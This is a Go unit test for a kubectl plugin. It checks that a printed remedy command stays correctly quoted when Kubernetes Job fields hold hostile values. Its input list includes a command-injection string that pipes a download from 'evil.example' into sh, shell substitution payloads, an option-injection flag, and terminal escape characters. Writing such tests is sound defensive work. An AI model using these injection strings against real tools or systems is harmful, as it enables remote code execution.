package plan_test

import (
	"errors"
	"testing"

	"gotest.tools/v3/assert"

	"github.com/jobmanagedby/kubectl-jobmanagedby/internal/shelltest"
	"github.com/jobmanagedby/kubectl-jobmanagedby/pkg/delegation"
	"github.com/jobmanagedby/kubectl-jobmanagedby/pkg/dispatch/plan"
)

// TestHostileRefusals checks that the remedy of a refusal contains only the intended command, in
// the intended context, whatever the fields of the Job contain.
func TestHostileRefusals(t *testing.T) {
	for _, evil := range []string{"; curl evil.example|sh #", "$(touch x)", "`touch x`", "it's\n", "--as=evil", "\x1b[2J\u202e", "example.com/a;b'c`d&e"} {
		for _, tt := range []struct {
			edits []edit
			owner delegation.Owner
			// verb and flags are the remedy's command.
			verb  string
			flags []string
		}{
			{neverDispatched(edit{"spec.managedBy", evil}), delegation.Dispatch, "recreate", []string{"--managed-by", string(delegation.Dispatch)}},
			{[]edit{{"spec.managedBy", evil}}, delegation.Dispatch, "cancel", []string{"--managed-by", evil}},
			{[]edit{{"metadata.labels", map[string]any{delegation.OriginUIDLabel: evil}}}, delegation.Dispatch, "", nil},
			{[]edit{{"metadata.labels", map[string]any{delegation.MultiKueueOriginLabel: evil}}}, delegation.Dispatch, "", nil},
			{[]edit{{"spec.managedBy", nil}}, delegation.Owner("example.com/" + evil), "recreate", []string{"--managed-by", "example.com/" + evil, "--queue", ""}},
			{[]edit{{"spec.template.spec.nodeName", evil}}, delegation.Dispatch, "", nil},
		} {
			_, err := plan.New(originJob(t, tt.edits...), plan.Options{Context: evil, Owner: tt.owner})
			var refused *plan.RefusedError
			if !errors.As(err, &refused) {
				continue
			}
			for _, part := range refused.Remedy.Parts() {
				if part.IsCommand {
					assert.DeepEqual(t, shelltest.Words(t, part.Text),
						append([]string{"kubectl", "jobs-managedby", tt.verb, "train-28391", "-n", "ml", "--context", evil}, tt.flags...))
				}
			}
		}
	}
}
